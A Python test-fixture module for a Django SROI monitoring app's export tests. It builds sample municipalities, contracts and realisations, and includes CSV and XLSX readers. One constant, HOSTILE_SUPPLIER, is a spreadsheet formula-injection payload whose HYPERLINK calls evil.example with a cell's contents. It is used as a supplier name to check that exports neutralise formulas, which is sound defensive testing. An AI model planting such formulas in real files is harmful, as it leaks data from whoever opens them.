"""A small region for the export tests (``build_region``), and reading an export back.

Two buyers: Gemeente Hoorn (contract REF-A1 of Bouwbedrijf A, of record, version 1 of its
agreements in force: one line, Participatiewet < 2 jaar, 36 h/week for 2026, EUR 25,000.00)
and Gemeente Enkhuizen (contract REF-B1 of Schoonmaak B, of record). Realisations: on REF-A1 an
approved placement of candidate K-GEHEIM-A (value EUR 12,345.67) and a purchase from a
supplier whose name is a formula; on REF-B1 a placement of candidate K-GEHEIM-B.
"""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from typing import Any

from django.http import HttpResponse
from openpyxl import load_workbook

from sroi.accounts.models import User
from sroi.agreements.constants import AgreementStatus
from sroi.agreements.models import Agreement, AgreementVersion
from sroi.monitoring.constants import RealisationStatus
from sroi.monitoring.models import Realisation
from sroi.plans.constants import ContractLight, ContractStatus, EffortKind, TargetGroup
from sroi.plans.models import Buyer, Contract, PlanVersion
from tests.monitoring.factories import RealisationFactory
from tests.plans.factories import BuyerFactory, ContractFactory, PlanFactory, buyer_user_of

HOSTILE_SUPPLIER = '=HYPERLINK("http://evil.example/?"&A1;"klik")'


@dataclass
class Region:
    hoorn: Buyer
    enkhuizen: Buyer
    a1: Contract
    b1: Contract
    placement_a: Realisation
    purchase_a: Realisation
    placement_b: Realisation
    hoorn_user: User
    enkhuizen_user: User


def build_region(*, contractor_a: User, contractor_b: User) -> Region:
    hoorn = BuyerFactory(name="Gemeente Hoorn")
    enkhuizen = BuyerFactory(name="Gemeente Enkhuizen")
    # Rows written directly (the services' workflow is tested in their apps; here it would
    # only make every test slower): a contract of record with version 1 of its agreements in
    # force and the figures the services would store.
    a1 = ContractFactory(
        organisation=contractor_a.organisation,
        buyer=hoorn,
        name="Onderhoud wegen Hoorn",
        reference="REF-A1",
        ruleset_version=None,
        of_record=True,
        status=ContractStatus.AGREEMENTS_IN_FORCE,
        obligation_eur=Decimal("50000.00"),
        agreed_eur=Decimal("25000.00"),
        realised_eur=Decimal("12345.67"),
        pending_eur=Decimal("1200.00"),
        outlook_eur=Decimal("45000.00"),
        light=ContractLight.AT_RISK,
    )
    plan = PlanFactory(contract=a1)
    version = AgreementVersion.objects.create(
        contract=a1,
        number=1,
        based_on=PlanVersion.objects.create(plan=plan, number=1, snapshot={}),
        status=AgreementStatus.ACCEPTED,
        total_eur=Decimal("25000.00"),
        obligation_eur=Decimal("50000.00"),
    )
    Agreement.objects.create(
        version=version,
        effort_kind=EffortKind.JOBS,
        target_group=TargetGroup.PW_LT2,
        block_code="PW_LT2",
        count=1,
        hours_per_week=Decimal("36"),
        start_date=date(2026, 1, 1),
        end_date=date(2026, 12, 31),
        value_eur=Decimal("25000.00"),
    )
    b1 = ContractFactory(
        organisation=contractor_b.organisation,
        buyer=enkhuizen,
        name="Groenonderhoud Enkhuizen",
        reference="REF-B1",
        ruleset_version=None,
        of_record=True,
        start_date=date(2025, 1, 1),
        end_date=date(2025, 12, 31),
    )
    placement_a = RealisationFactory(
        contract=a1,
        candidate__reference="K-GEHEIM-A",
        status=RealisationStatus.APPROVED,
        value_eur=Decimal("12345.67"),
        forecast_eur=Decimal("20000.00"),
        hours_per_week=Decimal("32.50"),
    )
    purchase_a = RealisationFactory(
        contract=a1,
        purchase=True,
        status=RealisationStatus.SUBMITTED,
        supplier_name=HOSTILE_SUPPLIER,
        amount_eur=Decimal("4000.00"),
        value_eur=Decimal("1200.00"),
    )
    placement_b = RealisationFactory(contract=b1, candidate__reference="K-GEHEIM-B")
    for contract in (a1, b1):
        contract.refresh_from_db()
    return Region(
        hoorn=hoorn,
        enkhuizen=enkhuizen,
        a1=a1,
        b1=b1,
        placement_a=placement_a,
        purchase_a=purchase_a,
        placement_b=placement_b,
        hoorn_user=buyer_user_of(hoorn, email="inkoper@hoorn.example.org"),
        enkhuizen_user=buyer_user_of(enkhuizen, email="inkoper@enkhuizen.example.org"),
    )


def url(dataset: str, fmt: str) -> str:
    return f"/coordinator/portefeuille/export/{dataset}.{fmt}"


def body(response: HttpResponse) -> bytes:
    """The whole body of a file or streamed response."""
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)  # type: ignore[attr-defined]
    return response.content


def xlsx_sheet(data: bytes) -> Any:
    """The only sheet of a workbook (every cell with its value and number format)."""
    workbook = load_workbook(io.BytesIO(data))
    assert len(workbook.worksheets) == 1
    return workbook.worksheets[0]


def xlsx_text(data: bytes) -> bytes:
    """Every part of an .xlsx (a zip) uncompressed, one after the other: a search in it finds
    any text the file holds."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist())


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def records(rows: list[list[Any]]) -> list[dict[str, Any]]:
    """The rows after the headings as {heading: value}."""
    headings = rows[0]
    return [dict(zip(headings, row, strict=True)) for row in rows[1:]]


def sheet_records(sheet: Any) -> list[dict[str, Any]]:
    """{heading: cell} per row of a sheet."""
    rows = [list(row) for row in sheet.iter_rows()]
    headings = [cell.value for cell in rows[0]]
    return [dict(zip(headings, row, strict=True)) for row in rows[1:]]
